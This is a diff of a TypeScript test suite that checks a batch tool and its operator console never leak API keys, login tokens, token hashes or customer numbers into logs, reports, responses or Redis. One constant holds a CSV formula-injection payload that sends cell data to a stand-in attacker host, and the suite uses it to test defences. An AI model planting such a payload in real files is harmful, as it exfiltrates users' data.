@@ -5,9 +5,10 @@
  * records are included), every report file, everything the logger wrote, the stdout/stderr of `run --json`
  * subprocesses (good key and wrong key), and the error messages. Logs must not hold a full customer number. CSV
  * reports must not start a cell with a formula character. Batch keys must expire after RESULTS_TTL_DAYS.
+ * Console operators' tokens and their hashes appear in no log, audit entry, page, API answer, report or Redis key.
  */
 import { execFile } from 'node:child_process';
-import { readdirSync, readFileSync } from 'node:fs';
+import { appendFileSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 
@@ -19,6 +20,9 @@ import { allBatchKeys } from '../../src/store/keys.js';
 import { makeLogger } from '../../src/config/logger.js';
 import { deletePrefix, makeTestEnv, phones, type TestEnv, uniquePrefix } from '../helpers/harness.js';
 import { dumpPrefix, keysUnder } from '../helpers/redis-dump.js';
+import { closeTestConsole, CONSOLE_TOKEN, startTestConsole, type TestConsole } from '../helpers/console.js';
+import { eventually } from '../helpers/eventually.js';
+import { spawnCli } from '../helpers/processes.js';
 
 const KEY = 'key_CANARY_s3cr3tValue_9f8e7d6c5b4a';
 const WRONG_KEY = 'key_WRONG_c4n4ryValue_1a2b3c4d5e6f';
@@ -31,10 +35,12 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
 const FORMULA_START = /^[=+\-@\t\r]/;
 
 let env: TestEnv | undefined;
+let con: TestConsole | undefined;
 const otherPrefixes: string[] = [];
 afterEach(async () => {
   for (const p of otherPrefixes.splice(0)) await deletePrefix(env?.config.redisUrl ?? 'redis://127.0.0.1:6379', p);
-  await env?.cleanup();
+  await closeTestConsole(con, env);
+  con = undefined;
   env = undefined;
 });
 
@@ -241,5 +247,93 @@ describe('secrets and personal data', () => {
     const cliError = await runCli(['run', file], { ...vars, DOUBLETICK_API_KEY: `Bearer ${KEY}` }, env.dir);
     expect(cliError.code).toBe(2);
     expectNoSecret('config error stderr', cliError.stderr + cliError.stdout);
+  });
+
+  it('console tokens and their hashes appear in no log, audit entry, page, API answer, report or Redis key', async () => {
+    env = await makeTestEnv();
+    const usersFile = join(env.dir, 'console-users');
+    const add = async (name: string): Promise<string> => {
+      const child = spawnCli(env!, ['console-user', 'add', name, '--file', usersFile]);
+      expect((await child.exited).code).toBe(0);
+      return /token: (\S+)/.exec(child.output())![1]!;
+    };
+    const tokens = [await add('alice'), await add('bob')];
+    const hashes = readFileSync(usersFile, 'utf8').match(/[0-9a-f]{64}/g)!;
+    expect(hashes).toHaveLength(2);
+    const secrets = [...tokens, ...hashes, CONSOLE_TOKEN];
+    const expectNone = (where: string, text: string): void => {
+      const found = secrets.filter((secret) => text.includes(secret)).map((secret) => `${secret.slice(0, 4)}…`);
+      expect({ where, found }).toEqual({ where, found: [] });
+    };
+    con = await startTestConsole(env, { extraEnv: { CONSOLE_USERS_FILE: usersFile, LOG_LEVEL: 'trace' } });
+    const texts: [string, string][] = [];
+    const fetchText = async (path: string, init: RequestInit & { auth?: boolean } = {}): Promise<Response> => {
+      const response = await con!.request(path, init);
+      texts.push([`${init.method ?? 'GET'} ${path} → ${response.status}`, `${JSON.stringify([...response.headers])} ${await response.text()}`]);
+      return response;
+    };
+    const form = (fields: Record<string, string>) => fetchText('/login', { auth: false, method: 'POST', body: new URLSearchParams(fields) });
+    const login = await form({ name: 'alice', token: tokens[0]! });
+    const cookie = /bu_console=[^;]+/.exec(login.headers.get('set-cookie') ?? '')![0];
+    await form({ token: `${tokens[1]!}x` }); // a near miss
+    await form({ name: tokens[1]!, token: 'wrong-token-0123456789' }); // a token typed into the name field
+    await fetchText('/login?token=' + tokens[0]!, { auth: false }); // not a demo console: the URL token is ignored
+    await fetchText('/api/batches', { auth: false, headers: { authorization: `Bearer ${hashes[0]!}` } }); // a hash is not a token
+    const upload = new FormData();
+    upload.append('file', new Blob([`phone,waba\n${phones(4, 900).join(`,${WABA}\n`)},${WABA}\n`], { type: 'text/csv' }), 'ops.csv');
+    const created = await fetchText('/api/batches', { auth: false, method: 'POST', body: upload, headers: { cookie } });
+    expect(created.status).toBe(201);
+    const batchId = (JSON.parse(texts.at(-1)![1].slice(texts.at(-1)![1].indexOf('{"'))) as { id: string }).id;
+    const done = await env.waitFor(batchId, ['finished'], 30_000);
+    expect(done.createdBy).toBe('alice');
+    // A users file broken while the console runs: logged by line number, never by content.
+    appendFileSync(usersFile, `mallory:${hashes[0]!}zz\n`);
+    // The console re-reads the file when a request is checked (at most once a second).
+    await eventually(
+      async () => {
+        await con!.request('/api/batches');
+        return con!.process.output().includes('console users file refused');
+      },
+      { message: 'the broken users file to be logged' },
+    );
+    expect(con.process.output()).toContain('line 3');
+    writeFileSync(usersFile, readFileSync(usersFile, 'utf8').split('\n').slice(0, 2).join('\n') + '\n');
+    for (const path of [
+      '/',
+      '/login',
+      '/assets/app.js',
+      '/api/batches',
+      `/api/batches/${batchId}`,
+      `/api/audit`,
+      `/api/audit?actor=alice`,
+      '/api/schedules',
+      '/metrics',
+    ]) {
+      await fetchText(path, { auth: false, headers: { authorization: `Bearer ${tokens[1]!}` } });
+    }
+    for (const file of ['summary.json', 'summary.md']) await fetchText(`/api/batches/${batchId}/reports/${file}`, { auth: false, headers: { cookie } });
+    const summary = JSON.parse(readFileSync(join(env.config.reportsDir, batchId, 'summary.json'), 'utf8'));
+    expect(summary).toMatchObject({ createdBy: 'alice', actions: [{ actor: 'alice', action: 'upload' }] });
+
+    for (const [where, text] of texts) expectNone(where, text);
+    expectNone('console output (trace logs)', con.process.output());
+    expectNone('audit trail', JSON.stringify(await env.ctx.audit.list()));
+    expect((await env.ctx.audit.list()).map((e) => e.action)).toEqual(expect.arrayContaining(['console-login', 'console-login-failed', 'upload']));
+    expectNone('redis', (await dumpPrefix(env.ctx.redis, env.config.queuePrefix)).text);
+    for (const file of filesUnder(env.config.reportsDir)) expectNone(file, readFileSync(file, 'utf8'));
+
+    // A malformed users file refused at start-up names the line, not its content.
+    const broken = join(env.dir, 'broken-users');
+    writeFileSync(broken, `alice:${hashes[0]!}\nbob ${hashes[1]!}\n`);
+    const error = (() => {
+      try {
+        resolveConfig({}, { CONSOLE_USERS_FILE: broken });
+        return undefined;
+      } catch (e) {
+        return e as Error;
+      }
+    })();
+    expect(error?.message).toContain('line 2');
+    expectNone('users file config error', `${error?.message} ${error?.stack}`);
   });
 });
